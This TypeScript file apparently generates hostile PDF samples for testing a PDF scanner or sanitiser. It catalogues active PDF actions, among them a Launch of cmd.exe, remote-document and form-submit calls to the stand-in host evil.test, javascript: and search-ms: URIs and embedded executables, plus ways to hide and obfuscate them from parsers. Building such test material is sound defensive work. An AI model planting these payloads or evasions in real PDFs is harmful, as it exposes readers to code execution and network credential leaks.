// Active contents of a hostile PDF, their locations, and their obfuscation.
import { deflateSync } from 'node:zlib';
import type { Random } from '../../db/seed/random.ts';

/**
 * Dictionaries that make a reader run, play, send, or fetch something, or open another file; `ADDRESS` is written in
 * different ways.
 */
export const techniques: Readonly<Record<string, string>> = {
  script: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'script by its text alone': '<< /Type /Action /JS (app.alert\\(1\\)) >>',
  'scripts by name': '<< /Names << /JavaScript << /Names [(a) 9 0 R] >> >> >>',
  launch: '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'launch of a file': '<< /S /Launch /F (\\\\\\\\evil.test\\\\share\\\\a.exe) >>',
  rendition: '<< /S /Rendition /OP 0 /AN 9 0 R /R << /Type /Rendition /S /MR >> >>',
  'media clip': '<< /Type /MediaClip /S /MCD /CT (video/mp4) /D 9 0 R >>',
  movie: '<< /Type /Annot /Subtype /Movie /Movie << /Poster true >> >>',
  'movie action': '<< /S /Movie /T (clip) /Operation /Play >>',
  sound: '<< /S /Sound /Sound 9 0 R >>',
  'rich media': '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << /Assets 9 0 R >> >>',
  'rich media action': '<< /S /RichMediaExecute /TA 9 0 R >>',
  '3D': '<< /Type /Annot /Subtype /3D /3DD 9 0 R >>',
  '3D view': '<< /S /GoTo3DView /TA 9 0 R >>',
  'remote document': '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>',
  'remote document by reference': '<< /S /GoToR /F 9 0 R /D [0 /Fit] >>',
  'embedded document': '<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>',
  'submitted form': '<< /S /SubmitForm /F << /FS /URL /F (http://evil.test) >> >>',
  'imported data': '<< /S /ImportData /F (x.fdf) >>',
  'thread of another file': '<< /S /Thread /F (\\\\\\\\evil.test\\\\a.pdf) /D 0 >>',
  'address of a file': '<< /S /URI /URI ADDRESS:file:///c:/windows/system32/calc.exe: >>',
  'address in a network': '<< /S /URI /URI ADDRESS:\\\\evil.test\\share\\a: >>',
  'address by two slashes': '<< /S /URI /URI ADDRESS://evil.test/share/a: >>',
  'address of a script': '<< /S /URI /URI ADDRESS:javascript&colon;alert(1): >>',
  'address of a program': '<< /S /URI /URI ADDRESS:search-ms&colon;query=a&crumb=location&colon;evil: >>',
  'address elsewhere': '<< /S /URI /URI 9 0 R >>',
  'address on opening': '<< /OpenAction << /S /URI /URI ADDRESS:https://evil.test/a: >> >>',
  'address when a page opens': '<< /AA << /O << /S /URI /URI ADDRESS:https://evil.test/a: >> >> >>',
  'base address in a network': '<< /Type /Catalog /URI << /Base ADDRESS:\\\\evil.test\\share: >> >>',
  XFA: '<< /Fields [] /XFA 9 0 R >>',
  'XFA in parts': '<< /XFA [(template) 9 0 R (datasets) 9 0 R] >>',
  'embedded files': '<< /Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> >>',
  'file specification': '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
  'file specification without a type': '<< /UF (a.exe) /EF << /UF 9 0 R >> >>',
  'file of another system': '<< /DOS (a.exe) >>',
  'associated file': '<< /Type /Page /AF [9 0 R] >>',
  'attached file': '<< /Type /Annot /Subtype /FileAttachment /FS 9 0 R >>',
  'image elsewhere': '<< /OPI << /2.0 << /Type /OPI /F (\\\\\\\\evil.test\\\\a.tif) >> >> >>',
  'page elsewhere': '<< /Subtype /Form /Ref << /F (\\\\\\\\evil.test\\\\a.pdf) /Page 0 >> >>',
  'program for printers': '<< /Type /XObject /Subtype /PS >>',
};

/** The location of a dictionary; returns the parts of a file after its header. */
type Carrier = (dictionary: string, random: Random) => readonly (string | Buffer)[];

const object = (number: number, body: string): string => `${number} 0 obj\n${body}\nendobj\n`;
const page = object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>');
const catalog = object(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>');
const pages = object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
const trailer = 'trailer << /Root 1 0 R /Size 10 >>\nstartxref\n9\n%%EOF\n';
const document = [catalog, pages, page].join('');

export const objectStream = (objects: string, table = '7 0 ', dictionary = '/Type /ObjStm'): Buffer =>
  Buffer.concat([
    Buffer.from(`5 0 obj\n<< ${dictionary} /N 1 /First ${table.length} /Filter /FlateDecode >>\nstream\n`),
    deflateSync(Buffer.from(table + objects, 'latin1')),
    Buffer.from('\nendstream\nendobj\n'),
  ]);

export const carriers: Readonly<Record<string, Carrier>> = {
  'an object': (it) => [document, object(7, it), trailer],
  'the catalog': (it) => [
    object(1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${it} >>`),
    pages,
    page,
    trailer,
  ],
  'a page': (it) => [catalog, pages, object(3, `<< /Type /Page /AA << /O ${it} >> >>`), trailer],
  'deep arrays': (it) => [document, object(7, `${'['.repeat(60)}${it}${']'.repeat(60)}`), trailer],
  'the trailer': (it) => [
    document,
    `trailer << /Root << /Type /Catalog /Pages 2 0 R /X ${it} >> >>\nstartxref\n9\n%%EOF\n`,
  ],
  'an object stream': (it) => [document, objectStream(it), trailer],
  'an object stream without its type': (it) => [document, objectStream(it, '7 0 ', ''), trailer],
  'a string in an object stream': (it) => {
    const inString = `(${it.replace(/[()\\]/g, '\\$&')}) `;
    // Its table points into the string; the second string contains the dictionary unescaped.
    return [document, objectStream(`${inString}[(] ${it} [)]`, `7 ${inString.length + 4} `), trailer];
  },
  'a later revision': (it) => [document, object(7, '<< >>'), trailer, object(7, it), trailer],
  'an earlier revision': (it) => [document, object(7, it), trailer, object(7, '<< >>'), trailer],
  'a stream’s bytes': (it) => [
    document,
    object(6, `<< /Length 999 >>\nstream\n${object(7, it)}endstream`),
    trailer,
  ],
  'a string': (it) => [document, object(6, `(${object(7, it)})`), trailer],
  'a comment': (it) => [document, `% ${object(7, it)}`, trailer],
  'a place beyond a megabyte': (it, random) => [
    document,
    `%${' '.repeat(1024 * 1024 - random.between(200, 900))}\n`,
    object(7, it),
    trailer,
  ],
  'a file that ends within it': (it) => [document, trailer, `7 0 obj\n${it.replace(/>>\s*$/, '')}\n%%EOF`],
  'an object without an end': (it) => [document, `7 0 obj ${it}\n8 0 obj << >> endobj\n`, trailer],
  'a broken dictionary': (it) => [document, object(7, `<< /A ] /B ${it} >>`), trailer],
  'an object whose number stands behind comments': (it) => [
    document,
    `7 % 1\n0 % 2\nobj ${it} endobj\n`,
    trailer,
  ],
  'a file without a table': (it) => [document, object(7, it), 'startxref\n0\n%%EOF\n'],
};

/** The spelling of a dictionary. */
type Obfuscation = (dictionary: string, random: Random) => string;

const hexOf = (letter: string): string => `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}`;
const eachName = (text: string, change: (name: string) => string): string =>
  text.replace(/\((?:[^()\\]|\\[\s\S])*\)|\/([A-Za-z0-9.]+)/g, (whole, name?: string) =>
    name === undefined ? whole : `/${change(name)}`,
  );

export const obfuscations: Readonly<Record<string, Obfuscation>> = {
  plain: (text) => text,
  'letters as numbers': (text, random) =>
    eachName(text, (name) =>
      [...name].map((letter) => (random.chance(0.5) ? hexOf(letter) : letter)).join(''),
    ),
  'all letters as large numbers': (text) =>
    eachName(text, (name) => [...name].map((letter) => hexOf(letter).toUpperCase()).join('')),
  'names that end at a zero': (text) => eachName(text, (name) => `${name}#00x`.slice(0, name.length + 3)),
  'comments between': (text, random) =>
    eachName(text, (name) => `${name}${random.pick(['%x\n', '%)>>endobj\r', '\0', '\f'])} `),
  'no spaces': (text) => text.replace(/ (?=[/<[(])/g, ''),
  'strings before it': (text) => `<< /T (\\)>> endobj) /U <3e3e> /V ((()\\)()) ) /X ${text} >>`,
};

/**
 * Writes an address as one of the forms of a string: `ADDRESS:...:`, with its own colons as `&colon;` or before a
 * slash.
 */
export function writeAddress(dictionary: string, random: Random): string {
  return dictionary.replace(/ADDRESS:(.*): >>/, (_, written: string) => {
    const address = written.replaceAll('&colon;', ':');
    const wide = Buffer.from(`\ufeff${address}`, 'utf16le').swap16().toString('hex');
    const octal = [...address].map((sign) => `\\${sign.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
    const plain = address.replace(/[()\\]/g, '\\$&');
    const forms = [
      `(${plain})`,
      `(${octal})`,
      `(${plain.replace(/^./, '$&\\\n')})`,
      `<${Buffer.from(address).toString('hex')}>`,
      `<${wide}>`,
    ];
    return `${random.pick(forms)} >>`;
  });
}
